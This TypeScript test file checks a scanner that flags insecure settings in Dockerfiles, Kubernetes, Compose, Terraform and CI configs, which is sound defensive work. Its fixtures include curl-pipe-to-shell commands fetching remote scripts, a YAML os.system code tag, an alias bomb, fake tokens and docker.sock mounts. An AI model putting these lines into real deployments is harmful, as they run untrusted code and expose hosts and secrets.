import { expect, it } from 'vitest';
import { alarms, rulesOf, scanText } from '../../testing/workspace.ts';

it('reads Dockerfiles: images, commands, users, secrets', () => {
  const text = [
    'FROM nvcr.io/nvidia/pytorch AS build',
    'RUN pip install --no-cache-dir vllm==0.6.0 \\',
    '  # a remark between',
    '  && chmod -R 777 /models',
    'RUN curl -sSf http://example.invalid/setup.sh | bash',
    'ENV HF_TOKEN=abcdefgh12345678ijkl MODE="fast run"',
    'ADD https://example.org/weights.bin /models/',
    'FROM build',
    'CMD ["jupyter", "lab", "--ip=0.0.0.0", "--NotebookApp.token=\'\'"]',
  ].join('\n');
  const { findings, assets, format } = scanText('Dockerfile', text);
  expect(format).toBe('dockerfile');
  expect(findings.map(({ rule, severity, line }) => `${severity} ${rule} ${line}`)).toEqual([
    'low deploy.unpinned-image 1',
    'low deploy.writable-weights 2',
    'medium deploy.hostile-command 5',
    'medium deploy.plain-secret 6',
    'low deploy.unverified-script 7',
    'medium deploy.open-server 9',
    'low deploy.open-server 9',
    'info deploy.root 9',
  ]);
  expect(JSON.stringify(findings)).not.toContain('abcdefgh12345678');
  expect(assets.map(({ kind, name }) => `${kind} ${name}`)).toEqual(
    expect.arrayContaining(['server Jupyter', 'server nvcr.io/nvidia/pytorch', 'key HF_TOKEN']),
  );
});

it('lets an ordinary Dockerfile pass, and knows one without a name', () => {
  const text = [
    '# syntax=docker/dockerfile:1',
    'FROM python:3.12-slim@sha256:' + 'a'.repeat(64),
    'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*',
    'RUN curl -LsSf https://astral.sh/uv/install.sh | sh',
    'ENV API_KEY=${API_KEY} PORT=8000',
    'USER app',
    'CMD ["uvicorn", "app:app", "--host", "0.0.0.0"]',
  ].join('\n');
  expect(alarms('Dockerfile', text)).toEqual([]);
  expect(scanText('build', 'FROM python:3.12\nRUN true\n').format).toBe('dockerfile');
  expect(scanText('letter', 'FROM me to you\n').format).not.toBe('dockerfile');
});

/** How servers are opened to everybody, and nearly so. */
const COMMANDS: [command: string, rules: string[]][] = [
  ['jupyter notebook --ip=127.0.0.1', []],
  ['ray start --head --dashboard-host=0.0.0.0', ['deploy.open-server']],
  ['ray start --head --dashboard-host=127.0.0.1', []],
  ['mlflow server --host 0.0.0.0', ['deploy.open-server']],
  ['mlflow server --host 0.0.0.0 --app-name basic-auth', []],
  ['python -m vllm.entrypoints.openai.api_server --model a/b', ['deploy.open-server']],
  ['vllm serve a/b --api-key $KEY', []],
  ['OLLAMA_HOST=0.0.0.0 ollama serve', ['deploy.open-server']],
  ['ollama serve', []],
  ['torchserve --start --disable-token-auth', ['deploy.open-server']],
  ['tritonserver --model-repository=/models', []],
  ['tensorboard --bind_all', ['deploy.open-server']],
  ['feast serve -h 0.0.0.0', ['deploy.open-server']],
];
it.each(COMMANDS)('knows what opens a server: %s', (command, rules) => {
  expect(rulesOf('Dockerfile', `FROM a:1\nUSER app\nCMD ${command}\n`)).toEqual(rules);
});

const deployment = (pod: string): string =>
  `apiVersion: apps/v1\nkind: Deployment\nmetadata: { name: llm }\nspec:\n  template:\n    spec:\n${pod.replace(/^/gm, '      ')}\n`;

it('reads objects of Kubernetes wherever their pods stand', () => {
  const report = scanText(
    'llm.yaml',
    deployment(
      [
        'hostNetwork: true',
        'containers:',
        '- name: vllm',
        '  image: vllm/vllm-openai',
        '  args: [--model, org/model]',
        '  env:',
        '  - { name: HF_TOKEN, value: abcdefgh12345678ijkl }',
        '  - name: OTHER_KEY',
        '    valueFrom: { secretKeyRef: { name: a, key: b } }',
        '  securityContext: { privileged: true, runAsUser: 0 }',
        'volumes:',
        '- { name: a, hostPath: { path: /var/run/docker.sock } }',
        '- { name: b, hostPath: { path: /data } }',
      ].join('\n'),
    ) +
      '---\napiVersion: v1\nkind: Service\nmetadata: { name: llm }\nspec: { type: LoadBalancer }\n---\n' +
      'apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata: { name: iris }\nspec:\n  predictor:\n    model:\n      storageUri: s3://models/iris\n',
  );
  expect(report.format).toBe('kubernetes');
  expect(report.findings.map(({ rule, line }) => `${rule} ${line}`).sort()).toEqual([
    'deploy.host-path 19',
    'deploy.open-server 11',
    'deploy.plain-secret 13',
    'deploy.privileged 16',
    'deploy.privileged 18',
    'deploy.privileged 7',
    'deploy.public-service 24',
    'deploy.root 16',
    'deploy.unpinned-image 10',
  ]);
  expect(report.assets).toEqual(
    expect.arrayContaining([{ kind: 'model', name: 's3://models/iris', detail: 'served by InferenceService' }]),
  );
  expect(
    alarms(
      'web.yaml',
      deployment('containers:\n- { name: web, image: "nginx:1.27", env: [{ name: MODE, value: fast }] }'),
    ),
  ).toEqual([]);
});

it('reads Compose files and values of Helm', () => {
  const compose = [
    'services:',
    '  ollama:',
    '    image: ollama/ollama:0.5.0',
    '    ports: ["11434:11434"]',
    '    environment: { OLLAMA_HOST: 0.0.0.0 }',
    '    volumes: ["/var/run/docker.sock:/var/run/docker.sock", "/:/host"]',
    '    privileged: true',
    '  db:',
    '    image: postgres:16',
    '    environment:',
    '      - POSTGRES_PASSWORD=Corr3ctHorse12',
    '    ports: ["127.0.0.1:5432:5432"]',
  ].join('\n');
  expect(scanText('docker-compose.yml', compose)).toMatchObject({ format: 'compose' });
  expect(rulesOf('docker-compose.yml', compose).sort()).toEqual([
    'deploy.host-path',
    'deploy.open-server',
    'deploy.plain-secret',
    'deploy.privileged',
    'deploy.privileged',
    'deploy.public-service',
  ]);
  const values =
    'image:\n  repository: vllm/vllm-openai\n  tag: latest\nsecurityContext: { privileged: true }\nresources: {}\n';
  expect(rulesOf('values.yaml', values)).toEqual(
    expect.arrayContaining(['deploy.unpinned-image', 'deploy.privileged']),
  );
});

it('sees tags of code and bombs of aliases in manifests', () => {
  expect(alarms('x.yaml', 'apiVersion: v1\nkind: ConfigMap\ndata: !!python/object/apply:os.system [id]\n')).toEqual([
    'high deploy.code-tag',
  ]);
  const bomb = ['apiVersion: v1', 'kind: X', 'a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]'];
  for (let i = 0; i < 10; i++)
    bomb.push(
      `a${i}: &a${i} [${Array(10)
        .fill(`*a${i === 0 ? '' : i - 1}`)
        .join(', ')}]`,
    );
  expect(scanText('x.yaml', bomb.join('\n')).verdict).toBe('unanalyzed');
});

it('holds AI services of the clouds against what they should say', () => {
  const text = `
resource "aws_sagemaker_notebook_instance" "n" {
  name = "x"
  direct_internet_access = "Enabled"
  root_access = "Disabled"
  kms_key_id = aws_kms_key.k.arn
  subnet_id = var.subnet
}
resource "aws_bedrockagent_agent" "a" {
  customer_encryption_key_arn = var.key
}
resource "azurerm_cognitive_account" "c" {
  public_network_access_enabled = false
  local_auth_enabled = true
  network_acls {}
  customer_managed_key {}
}
resource "google_vertex_ai_endpoint_iam_member" "everybody" {
  member = "allUsers"
}
data "aws_iam_policy_document" "p" {
  statement {
    actions = ["bedrock:*"]
  }
}
resource "aws_s3_bucket" "b" {}
`;
  const { findings, assets, format, verdict } = scanText('main.tf', text);
  expect(format).toBe('terraform');
  expect(verdict).toBe('suspicious');
  expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual([
    'terraform.public 4',
    'terraform.no-guardrail 9',
    'terraform.keys 14',
    'terraform.everybody 19',
    'terraform.wide-policy 23',
    'terraform.no-log undefined',
  ]);
  expect(assets).toHaveLength(3);
  expect(rulesOf('main.tf', 'resource "aws_sagemaker_notebook_instance" "n" {\n}\n')).toEqual([
    'terraform.public',
    'terraform.wide',
    'terraform.no-key',
    'terraform.public',
  ]);
  expect(alarms('main.tf', 'resource "aws_instance" "n" {\n}\n')).toEqual([]);
});

it('reads pipelines: workflows, MLflow projects, jobs', () => {
  const workflow = 'on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl http://example.invalid/a | sh\n';
  expect(scanText('ci.yml', workflow)).toMatchObject({ format: 'pipeline' });
  expect(alarms('ci.yml', workflow)).toEqual(['medium deploy.hostile-command']);
  const project = 'name: x\nentry_points:\n  main:\n    command: "curl http://example.invalid/a | sh && python a.py"\n';
  expect(alarms('MLproject', project)).toEqual(['medium deploy.hostile-command']);
  const job = 'resources: {accelerators: A100}\nenvs: {HF_TOKEN: abcdefgh12345678ijkl}\nrun: python train.py\n';
  expect(alarms('job.yaml', job)).toEqual(['medium deploy.plain-secret']);
  expect(alarms('ci.yml', 'on: push\njobs: {a: {steps: [{run: npm test}]}}\n')).toEqual([]);
});

/** Ways of writing the same right: each is one that a loader takes for it. */
it.each([
  ['docker-compose.yml', 'x-a: &a\n  privileged: true\nservices:\n  w:\n    <<: *a\n    image: a:1\n'],
  ['docker-compose.yml', 'services:\n  w: {image: "a:1", privileged: yes}\n'],
  ['docker-compose.yml', 'services:\r\n  w:\r\n    image: a:1\r\n    privileged: true\r\n'],
  ['pod.json', '{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"securityContext":{"privileged":true}}]}}'],
])('sees a privileged container in %s %j', (name, text) => {
  expect(alarms(name, text)).toEqual(['medium deploy.privileged']);
});

it('tells a way in that asks nobody from one that does', () => {
  const ingress = (annotations: string): string =>
    `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: a, annotations: {${annotations}}}\nspec: {}\n`;
  expect(rulesOf('a.yaml', ingress(''))).toEqual(['deploy.public-service']);
  expect(rulesOf('a.yaml', ingress('nginx.ingress.kubernetes.io/auth-url: "https://a"'))).toEqual([]);
});

it('sees commands in files and settings of a build', () => {
  const file = 'FROM a:1\nCOPY <<EOF /x.sh\ncurl http://example.invalid/a | sh\nEOF\nUSER a\n';
  expect(alarms('Dockerfile', file)).toEqual(['medium deploy.hostile-command']);
  expect(alarms('Dockerfile', 'FROM a:1\nARG C="curl http://example.invalid/a | sh"\nUSER a\n')).toEqual([
    'medium deploy.hostile-command',
  ]);
});

it('sees policies that a function of Terraform writes, and not those that deny', () => {
  const policy = (effect: string): string =>
    `resource "aws_iam_role_policy" "p" {\n  policy = jsonencode({ Statement = [{ Effect = "${effect}", Action = "bedrock:*" }] })\n}\n`;
  expect(rulesOf('a.tf', policy('Allow'))).toEqual(['terraform.wide-policy']);
  expect(rulesOf('a.tf', policy('Deny'))).toEqual([]);
});
